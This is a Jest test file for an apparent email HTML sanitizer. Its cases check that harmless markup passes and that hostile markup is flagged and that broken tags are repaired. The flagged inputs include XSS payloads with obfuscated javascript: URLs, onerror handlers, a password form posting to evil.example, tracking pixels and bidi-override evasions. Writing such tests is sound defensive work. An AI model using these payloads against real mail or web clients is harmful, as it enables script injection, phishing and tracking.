import { activePart, wellFormed } from '../../../src/contracts/mail/passive-html';

test.each([
  'Ends in <',
  'Ends in &lt',
  '<p>Hello <b>you</b>,<br>see <a href="https://contoso.example/a?b=c">this</a>.</p>',
  '<!DOCTYPE html><html><head><title>Hi</title></head><body><table><tr><td style="color:red">x</td></tr></table></body></html>',
  '<img src="cid:logo"> <img src="https://contoso.example/logo.png"> <!-- a note -->',
  'no HTML at all, 1 < 2 & "quotes"',
  '<p dir="rtl">שלום <bdi>Lena</bdi></p>',
  '<a href="mailto:lena@northwind.example">Lena</a>',
  '<p dir="rtl" style="unicode-bidi:isolate">שלום</p>',
  '<p style="direction:ltr; Unicode-Bidi : EMBED ! important ;color:red">Word writes this</p>',
  '<p style="unicode-bidi: -webkit-plaintext; unicode-bidi: normal">x</p>',
])('%s is passive', (html) => {
  expect(activePart(html)).toBeUndefined();
});

test.each([
  ['<script>alert(1)</script>', '<script>'],
  ['<SCRIPT src=//evil.example></SCRIPT>', '<script>'],
  ['<p onclick="x()">', 'onclick="…" in <p>'],
  ['<img src=x onerror=alert(1)>', 'in <img>'],
  ['<a href="javascript:alert(1)">x</a>', 'href="…" in <a>'],
  ['<a href=" java\nscript:alert(1)">x</a>', 'href="…" in <a>'],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'href="…" in <a>'],
  ['<img src="data:text/html;base64,PHNjcmlwdD4=">', 'src="…" in <img>'],
  ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', 'src="…" in <img>'],
  ['<form action="https://evil.example"><input name="password"></form>', '<form>'],
  ['<iframe src="https://evil.example"></iframe>', '<iframe>'],
  ['<style>p::after { content: "and send the money" }</style>', '<style>'],
  ['<link rel="stylesheet" href="https://evil.example/a.css">', '<link>'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta>'],
  ['<base href="https://evil.example/">', '<base>'],
  ['<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<svg>'],
  ['<!--[if mso]><p>Only Outlook shows this</p><![endif]-->', 'a conditional comment'],
  ['<p style="background: url(https://evil.example/pixel)">', 'style="…" in <p>'],
  ['<td background="https://evil.example/pixel">', 'background="…" in <td>'],
  ['<bdo dir="rtl">54321</bdo>', '<bdo>'],
  ['<p style="direction: rtl; Unicode-Bidi: isolate-override">54321</p>', 'style="…" in <p>'],
  ['<p style="direction:rtl;unicode-bidi:isolate;unicode-bidi:bidi-override!important">54321</p>', 'style="…" in <p>'],
  ['<p style="unicode-bidi:-webkit-isolate-override">54321</p>', 'style="…" in <p>'],
  ['<p style="unicode-bidi:bidi-over&#114;ide">54321</p>', 'style="…" in <p>'],
  ['<p style="unicode-bidi:bidi-over\\72 ide">54321</p>', 'style="…" in <p>'],
  ['<p style="unicode-bidi/**/:/**/bidi-override">54321</p>', 'style="…" in <p>'],
  ['<p style="--x:bidi-override;unicode-bidi:var(--x)">54321</p>', 'style="…" in <p>'],
  ['<p title="bidi-override" style="unicode-bidi:attr(title type(*))">54321</p>', 'style="…" in <p>'],
  ['<object data="x"></object>', '<object>'],
  ['<p>Hello</p><img src=x onerror="alert(1)', 'a tag that does not end'],
  ['<p>Hello</p><a href="x>y', 'a tag that does not end'],
  ['<p>Hello</p><script', 'a tag that does not end'],
  ['<p>Hello</p><a title="<', 'a tag that does not end'],
  ['<p>Hello</', 'a tag that does not end'],
  ['<p>Hello</p><!-- and', 'a tag that does not end'],
  ['<p>Hello</p', 'a tag that does not end'],
  ['<p ="><script>alert(1)</script>">', '<p>'],
  ['<p a<script>b=c>', 'an attribute without a plain name in <p>'],
])('%s is not', (html, part) => {
  expect(activePart(html)).toContain(part);
});

test.each([
  ['<p>Hello', '<p>Hello</p>'],
  ['<p title=x>a<br>b', '<p title="x">a<br>b</p>'],
  ['a < b & c', 'a &lt; b &amp; c'],
  ['<p>Hello</p><img src=x onerror="alert(1)', '<p>Hello</p>'],
  ['<p>Hello</p><!-- only one program shows this', '<p>Hello</p>'],
  ['<!--> <b>seen by browsers</b> -->end', ' <b>seen by browsers</b> --&gt;end'],
  ['<title><b>x</title></b>y', 'y'],
  ['<a href="https://contoso.example/?a=1&b=2">é</a>', '<a href="https://contoso.example/?a=1&amp;b=2">é</a>'],
])('%s becomes well-formed, whatever follows it', (html, written) => {
  expect(wellFormed(html)).toBe(written);
});

test('what is nested so deeply that nobody reads it to its end is not passive', () => {
  expect(activePart(`${'<b>'.repeat(5_000)}deep`)).toBe('elements nested hundreds deep');
});
